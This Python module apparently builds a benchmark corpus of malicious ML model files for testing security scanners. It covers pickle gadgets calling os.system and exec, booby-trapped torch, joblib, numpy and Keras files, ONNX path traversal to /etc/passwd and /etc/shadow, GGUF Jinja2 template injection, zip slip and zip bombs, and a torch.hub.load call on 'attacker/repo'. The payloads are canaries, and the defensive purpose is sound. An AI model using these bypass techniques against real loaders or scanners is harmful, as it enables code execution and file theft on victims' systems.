"""Malicious benchmark samples: one or more per bypass class found in public research.

Every payload is a canary: if a loader ever ran it, it would create the marker file (and do
nothing else). Each entry is (class id, source, builder); a builder returns {name: bytes}.
"""

from __future__ import annotations

import base64
import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable

from craft import Pickle, build_zip, saved_model

Files = dict[str, bytes]
Builder = Callable[[str], Files]


def _cmd(marker: str) -> str:
    return f"touch {marker}"


def _code(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def reduce_system(m: str) -> Files:
    return {f"reduce_p{p}.pkl": Pickle(p).call("os", "system", _cmd(m)).stop() for p in (0, 2, 4)}


def posix_alias(m: str) -> Files:
    return {
        "posix_alias.pkl": Pickle(4).call("posix", "system", _cmd(m)).stop(),
        "fork_exec.pkl": Pickle(4).call("_posixsubprocess", "fork_exec", _cmd(m)).stop(),
    }


def exec_eval(m: str) -> Files:
    return {
        "exec.pkl": Pickle(2).call("builtins", "exec", _code(m)).stop(),
        "eval_py2name.pkl": Pickle(2).call("__builtin__", "eval", _code(m)).stop(),
        "compile.pkl": Pickle(2).call("builtins", "compile", _code(m), "x", "exec").stop(),
    }


def extension_bypass(m: str) -> Files:
    data = Pickle(None).call("os", "system", _cmd(m)).stop()
    return {
        "labels.csv": data,
        "config.yaml": data,
        "tensor00017_000": Pickle(4).call("subprocess", "getoutput", _cmd(m)).stop(),
    }


def memo_stack_global(m: str) -> Files:
    p = Pickle(4).string("o" + "s").memoize().string("sys" + "tem").memoize()
    p.get(0).get(1).raw(b"\x93").string(_cmd(m)).tuple1().reduce()
    return {"memo_stack_global.pkl": p.stop()}


def dotted_traversal(m: str) -> Files:
    p = Pickle(4).stack_global("shlex", "os.system").string(_cmd(m)).tuple1().reduce()
    q = Pickle(4).stack_global("torch.nn.modules.module", "torch.hub.load")
    q.string("attacker/repo").string("model").raw(b"\x86").reduce()
    return {"dotted_shlex.pkl": p.stop(), "dotted_torch_hub.pkl": q.stop()}


def obj_pop(m: str) -> Files:
    p = Pickle(2).mark().glob("os", "system").string(_cmd(m)).obj().pop()
    p.empty_dict()
    return {"obj_pop.pkl": p.stop()}


def inst_opcode(m: str) -> Files:
    data = b"(S'" + _cmd(m).encode() + b"'\nios\nsystem\n."
    return {"inst_p0.pkl": data}


def ext_code(m: str) -> Files:
    return {"ext1.pkl": Pickle(2).raw(b"\x82\x01").string(_cmd(m)).tuple1().reduce().stop()}


def nested_loads(m: str) -> Files:
    inner = Pickle(2).call("os", "system", _cmd(m)).stop()
    p = Pickle(2).glob("pickle", "loads").binbytes(inner).tuple1().reduce()
    q = Pickle(2).glob("_pickle", "loads").binbytes(inner).tuple1().reduce()
    return {"nested_loads.pkl": p.stop(), "nested__pickle.pkl": q.stop()}


def second_stream(m: str) -> Files:
    first = pickle.dumps({"weights": [0.1, 0.2]}, protocol=2)
    return {"second_stream.pkl": first + Pickle(2).call("os", "system", _cmd(m)).stop()}


def broken_after_payload(m: str) -> Files:
    data = Pickle(2).call("os", "system", _cmd(m)).raw(b"\x00\x01garbage").stop()
    return {"broken_pickle.pkl": data}


def torch_zip(m: str) -> Files:
    data = Pickle(2).glob("collections", "OrderedDict").empty_tuple().reduce()
    data.call("os", "system", _cmd(m)).pop()
    pkl = data.stop()
    return {
        "pytorch_model.bin": build_zip(
            [("archive/data.pkl", pkl, {}), ("archive/version", b"3\n", {})]
        ),
        "shard-00001-of-00002": build_zip(
            [("zzz_renamed/data.pkl", pkl, {}), ("zzz_renamed/byteorder", b"little", {})]
        ),
        "crc_mismatch.pt": build_zip([("archive/data.pkl", pkl, {"crc": 0xDEADBEEF})]),
        "name_mismatch.pt": build_zip(
            [("archive/data.pkl", pkl, {"local_name": "archive/safe.txt"})]
        ),
        "case_variant.pt": build_zip(
            [("archive/DATA.PKL", pkl, {}), ("archive/version", b"3\n", {})]
        ),
    }


def nullifai_7z(m: str) -> Files:
    import py7zr

    pkl = Pickle(2).call("os", "system", _cmd(m)).raw(b"\x00broken").stop()
    inner = build_zip([("archive/data.pkl", pkl, {})])
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        z.writestr(inner, "model.pt")
    return {"nullifai.7z": buf.getvalue()}


def torch_real(m: str) -> Files:
    import torch

    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, (_cmd(m),))

    out: Files = {}
    for name, zipped in (("torch_zip_payload.pt", True), ("torch_legacy_payload.pt", False)):
        buf = io.BytesIO()
        torch.save(
            {"w": torch.zeros(4), "x": Payload()}, buf, _use_new_zipfile_serialization=zipped
        )
        out[name] = buf.getvalue()
    return out


def torch_legacy_tar(m: str) -> Files:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in (
            ("sys_info", pickle.dumps({"protocol_version": 1000}, protocol=2)),
            ("pickle", Pickle(2).call("os", "system", _cmd(m)).stop()),
            ("storages", pickle.dumps(0, protocol=2)),
            ("tensors", pickle.dumps(0, protocol=2)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return {"legacy_tar.pt": buf.getvalue()}


def load_from_bytes(m: str) -> Files:
    inner = build_zip([("archive/data.pkl", Pickle(2).call("os", "system", _cmd(m)).stop(), {})])
    p = Pickle(2).glob("torch.storage", "_load_from_bytes").binbytes(inner).tuple1().reduce()
    return {"load_from_bytes.pkl": p.stop()}


def joblib_files(m: str) -> Files:
    import joblib
    import numpy as np

    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, (_cmd(m),))

    out: Files = {}
    obj = {"coef": np.arange(50.0), "objs": np.array([Payload(), 1], dtype=object)}
    for name, comp in (
        ("model.joblib", 0),
        ("model_zlib.joblib", ("zlib", 3)),
        ("model_gzip.joblib", ("gzip", 3)),
        ("model_bz2.joblib", ("bz2", 3)),
        ("model_xz.joblib", ("xz", 3)),
        ("model_lzma.joblib", ("lzma", 3)),
    ):
        buf = io.BytesIO()
        joblib.dump(obj, buf, compress=comp)
        out[name] = buf.getvalue()
    return out


def numpy_object(m: str) -> Files:
    import numpy as np

    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, (_cmd(m),))

    a, b = io.BytesIO(), io.BytesIO()
    np.save(a, np.array([Payload()], dtype=object), allow_pickle=True)
    np.savez(b, w=np.arange(3.0), o=np.array([Payload()], dtype=object))
    return {"object_array.npy": a.getvalue(), "object_array.npz": b.getvalue()}


def dill_cloudpickle(m: str) -> Files:
    import cloudpickle
    import dill

    cmd = _cmd(m)

    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return (lambda: os.system(cmd), ())

    return {
        "dill_function.pkl": dill.dumps(Payload()),
        "cloudpickle_function.pkl": cloudpickle.dumps(Payload()),
    }


def resolvers(m: str) -> Files:
    a = Pickle(4).glob("pkgutil", "resolve_name").string("os:system").tuple1().reduce()
    a.string(_cmd(m)).tuple1().reduce()
    b = Pickle(2).glob("builtins", "getattr").glob("importlib", "import_module")
    b.string("os").tuple1().reduce().string("system").raw(b"\x86").reduce()
    b.string(_cmd(m)).tuple1().reduce()
    c = Pickle(2).glob("operator", "methodcaller").string("system").string(_cmd(m)).raw(b"\x86")
    c.reduce().glob("importlib", "import_module").string("os").tuple1().reduce().tuple1().reduce()
    d = Pickle(2).glob("builtins", "__import__").string("os").tuple1().reduce()
    return {
        "pkgutil_resolve_name.pkl": a.stop(),
        "getattr_import_module.pkl": b.stop(),
        "operator_methodcaller.pkl": c.stop(),
        "builtins_import.pkl": d.stop(),
    }


def runners(m: str) -> Files:
    code = _code(m)
    calls = {
        "runpy.pkl": ("runpy", "_run_code", code),
        "timeit.pkl": ("timeit", "timeit", code),
        "cprofile.pkl": ("cProfile", "run", code),
        "pdb_run.pkl": ("pdb", "run", code),
        "code_interact.pkl": ("code", "InteractiveInterpreter", code),
        "pip_main.pkl": ("pip", "main", "config"),
        "torch_collect_env.pkl": ("torch.utils.collect_env", "run", _cmd(m)),
        "mlflow_entry_point.pkl": ("mlflow.projects.backend.local", "_run_entry_point", _cmd(m)),
        "pandas_read_csv.pkl": ("pandas", "read_csv", "http://127.0.0.1:9/x"),
        "pandas_io_read_pickle.pkl": ("pandas.io.pickle", "read_pickle", m),
        "spawnv_passfds.pkl": ("multiprocessing.util", "spawnv_passfds", "/bin/sh"),
        "numpy_runstring.pkl": ("numpy.testing._private.utils", "runstring", code),
        "numpy_load.pkl": ("numpy", "load", m),
        "asyncio_subprocess.pkl": ("asyncio.subprocess", "create_subprocess_shell", _cmd(m)),
        "webbrowser.pkl": ("webbrowser", "open", "file://" + m),
        "ctypes_cdll.pkl": ("ctypes", "CDLL", "libc.so.6"),
        "signal_alarm.pkl": ("signal", "alarm", "1"),
        "shutil_copy.pkl": ("shutil", "copyfile", "/etc/hostname", m),
        "socket_conn.pkl": ("socket", "create_connection", "127.0.0.1"),
        "logging_listen.pkl": ("logging.config", "listen", "9"),
        "torch_jit_load.pkl": ("torch.jit", "load", m),
        "scanner_tamper.pkl": ("picklescan.scanner", "scan_file_path", m),
    }
    return {name: Pickle(2).call(*spec).stop() for name, spec in calls.items()}


def code_objects(m: str) -> Files:
    a = Pickle(2).glob("marshal", "loads").binbytes(b"\xe3" + b"\x00" * 16).tuple1().reduce()
    b = Pickle(2).glob("types", "FunctionType").glob("builtins", "compile").string(_code(m))
    b.string("x").string("exec").raw(b"\x87").reduce().empty_dict().raw(b"\x86").reduce()
    c = Pickle(2).glob("dill._dill", "_load_type").string("CodeType").tuple1().reduce()
    return {"marshal.pkl": a.stop(), "functiontype.pkl": b.stop(), "dill_load_type.pkl": c.stop()}


def build_on_import(m: str) -> Files:
    p = Pickle(2).glob("sklearn.pipeline", "Pipeline").none().empty_dict()
    p.string("__reduce_ex__").string(_cmd(m)).raw(b"s").raw(b"\x86").build()
    q = Pickle(4)
    q.stack_global("builtins", "str").string("o" + "s").tuple1().reduce().string("system")
    q.raw(b"\x93").string(_cmd(m)).tuple1().reduce()
    return {"build_on_class.pkl": p.stop(), "computed_stack_global.pkl": q.stop()}


def keras_files(m: str) -> Files:
    import h5py

    code = base64.b64encode(b"\xe3os\x00system\x00" + _cmd(m).encode()).decode()
    lam = {
        "class_name": "Lambda",
        "config": {"name": "lambda", "function": [code, None, None], "function_type": "lambda"},
    }
    cfg = {
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 2]}},
                lam,
            ],
        },
    }
    h5 = io.BytesIO()
    with h5py.File(h5, "w") as f:
        f.attrs["model_config"] = json.dumps(cfg)
        f.attrs["keras_version"] = "2.15.0"
        f.create_dataset("w", data=[1.0, 2.0])
    v3 = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {
                        "name": "l",
                        "function": {
                            "class_name": "__lambda__",
                            "config": {"code": code, "defaults": None, "closure": None},
                        },
                    },
                }
            ]
        },
    }
    fn = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "Dense",
                    "config": {
                        "units": 1,
                        "activation": {
                            "module": "os",
                            "class_name": "function",
                            "config": "system",
                            "registered_name": "function",
                        },
                    },
                }
            ]
        },
    }

    def keras_zip(config: dict[str, object]) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
            z.writestr("config.json", json.dumps(config))
            z.writestr("model.weights.h5", b"")
        return buf.getvalue()

    return {
        "lambda.h5": h5.getvalue(),
        "lambda_v3.keras": keras_zip(v3),
        "module_function.keras": keras_zip(fn),
    }


def savedmodel_files(m: str) -> Files:
    rw = saved_model([("x", "Placeholder"), ("read", "ReadFile"), ("write", "WriteFile")])
    py = saved_model([("x", "Placeholder")], [("cb", "EagerPyFunc")])
    return {"rw/saved_model.pb": rw, "pyfunc/saved_model.pb": py}


def onnx_files(m: str) -> Files:
    import onnx
    from onnx import TensorProto, helper

    def tensor(location: str) -> TensorProto:
        t = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
        t.ClearField("float_data")
        t.data_location = TensorProto.EXTERNAL
        e = t.external_data.add()
        e.key, e.value = "location", location
        return t

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
    g1 = helper.make_graph(
        [helper.make_node("Add", ["x", "w"], ["y"])],
        "g",
        [x],
        [y],
        [tensor("../../../../etc/passwd")],
    )
    then_g = helper.make_graph(
        [helper.make_node("Identity", ["w"], ["y"])], "t", [], [y], [tensor("/etc/shadow")]
    )
    c = helper.make_tensor_value_info("c", TensorProto.BOOL, [])
    g2 = helper.make_graph(
        [helper.make_node("If", ["c"], ["y"], then_branch=then_g, else_branch=then_g)],
        "g",
        [c],
        [y],
    )
    g3 = helper.make_graph(
        [helper.make_node("Exec", ["x"], ["y"], domain="com.attacker")], "g", [x], [y]
    )
    out: Files = {}
    for name, g in (
        ("external_escape.onnx", g1),
        ("nested_external.onnx", g2),
        ("custom_domain.onnx", g3),
    ):
        model = helper.make_model(
            g, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.attacker", 1)]
        )
        out[name] = model.SerializeToString()
    onnx.checker  # noqa: B018 (imported to make sure the package is complete)
    return out


def gguf_files(m: str) -> Files:
    templates = {
        "ssti_cycler.gguf": "{{ cycler.__init__.__globals__.os.popen('" + _cmd(m) + "').read() }}",
        "ssti_obfuscated.gguf": "{% for m in messages %}{{ m.content }}{% endfor %}"
        "{{ (lipsum|attr('__glo' ~ 'bals__'))['os'].popen('" + _cmd(m) + "') }}",
        "ssti_subclasses.gguf": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    }
    return {name: _gguf(text) for name, text in templates.items()}


def _gguf(template: str) -> bytes:
    def s(text: str) -> bytes:
        data = text.encode()
        return struct.pack("<Q", len(data)) + data

    kv = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
    for k, v in kv:
        out += s(k) + struct.pack("<I", 8) + s(v)
    return out


def archives(m: str) -> Files:
    payload = Pickle(2).call("os", "system", _cmd(m)).stop()
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("../../evil.pkl", payload)
    t = io.BytesIO()
    with tarfile.open(fileobj=t, mode="w") as tf:
        info = tarfile.TarInfo("weights")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc"
        tf.addfile(info)
    bomb = build_zip([("zeros.bin", b"\x00" * (300 << 20), {"method": 8})])
    inner = build_zip([("archive/data.pkl", payload, {})])
    nested = io.BytesIO()
    with tarfile.open(fileobj=nested, mode="w:gz") as tf:
        info = tarfile.TarInfo("bundle/model.zip")
        data = build_zip([("model.pt", inner, {})])
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    polyglot = payload + build_zip([("archive/data.pkl", pickle.dumps({}, protocol=2), {})])
    return {
        "zip_slip.zip": z.getvalue(),
        "tar_symlink.tar": t.getvalue(),
        "zip_bomb.zip": bomb,
        "nested.tar.gz": nested.getvalue(),
        "polyglot_pickle_zip.pt": polyglot,
    }


def safetensors_bad(m: str) -> Files:
    header = json.dumps(
        {
            "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
            "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
        }
    ).encode()
    return {"overlap.safetensors": struct.pack("<Q", len(header)) + header + b"\x00" * 24}


#: (class id, source, builder)
MALICIOUS: tuple[tuple[str, str, Builder], ...] = (
    ("reduce-os-system", "pickle docs; JFrog, malicious HF models (2024)", reduce_system),
    (
        "private-module-alias",
        "fickling GHSA series 2026 (#302, private stdlib imports)",
        posix_alias,
    ),
    ("exec-eval-compile", "Hide-and-Seek (arXiv 2508.19774) risky functions", exec_eval),
    ("extension-bypass", "CVE-2025-10155 (picklescan); modelscan #134/#218", extension_bypass),
    ("memo-stack-global", "picklescan #22 (memo/STACK_GLOBAL CTF bypass)", memo_stack_global),
    (
        "dotted-name-traversal",
        "fickling #287/#278 (dotted STACK_GLOBAL, allowlist shadowing)",
        dotted_traversal,
    ),
    ("obj-pop", "fickling GHSA-mxhj-88fx-4pcv (#235, OBJ + POP)", obj_pop),
    ("inst-opcode", "pickletools INST; Hide-and-Seek opcode classes", inst_opcode),
    ("ext-code", "copyreg extension codes (EXT1/2/4), PEP 307", ext_code),
    ("nested-pickle-loads", "Hide-and-Seek nested loading paths", nested_loads),
    ("second-stream", "fickling stacked pickles; Hide-and-Seek multi-stream", second_stream),
    ("broken-pickle", "ReversingLabs nullifAI (2025); fickling #138", broken_after_payload),
    (
        "torch-zip-tricks",
        "JFrog picklescan zero-days (CVE-2025-10156 CRC), member names",
        torch_zip,
    ),
    ("nullifai-7z", "ReversingLabs nullifAI: 7z-wrapped PyTorch (picklescan #35)", nullifai_7z),
    ("torch-real-payload", "torch.save with __reduce__ payload (zip and legacy)", torch_real),
    ("torch-legacy-tar", "PyTorch legacy tar loader (torch.serialization)", torch_legacy_tar),
    (
        "torch-load-from-bytes",
        "Hide-and-Seek: nested torch.load via _load_from_bytes",
        load_from_bytes,
    ),
    ("joblib-variants", "Protect AI PAIT-JOBLIB-101; joblib compressors", joblib_files),
    ("numpy-object-array", "numpy allow_pickle object arrays (CVE-2019-6446)", numpy_object),
    ("dill-cloudpickle", "modelscan #28 (dill models undetected)", dill_cloudpickle),
    (
        "resolver-gadgets",
        "picklescan GHSA-vvpj-8cmc-gx39 (pkgutil.resolve_name), #66, #74",
        resolvers,
    ),
    (
        "runner-gadgets",
        "modelscan #338 (collect_env, mlflow, pandas, multiprocessing); "
        "CVE-2025-1716 (pip); PickleBall",
        runners,
    ),
    (
        "code-objects",
        "picklescan #74 (marshal); dill/cloudpickle code reconstruction",
        code_objects,
    ),
    (
        "state-and-computed-names",
        "Hide-and-Seek object-state gadgets; computed STACK_GLOBAL",
        build_on_import,
    ),
    (
        "keras-lambda-and-modules",
        "CVE-2024-3660 (Lambda), CVE-2025-1550 (module refs), modelscan #343/#358",
        keras_files,
    ),
    ("savedmodel-ops", "modelscan SavedModel ReadFile/WriteFile; TF PyFunc", savedmodel_files),
    (
        "onnx-external-and-domains",
        "CVE-2024-27318, CVE-2022-25882 (external data traversal)",
        onnx_files,
    ),
    ("gguf-template-injection", "CVE-2024-34359 (llama-cpp-python Jinja2 SSTI)", gguf_files),
    ("archive-attacks", "zip slip (Snyk 2018); PAIT-ARV-100; polyglots (fickling)", archives),
    ("safetensors-malformed", "ModelAudit #913; safetensors validation rules", safetensors_bad),
)
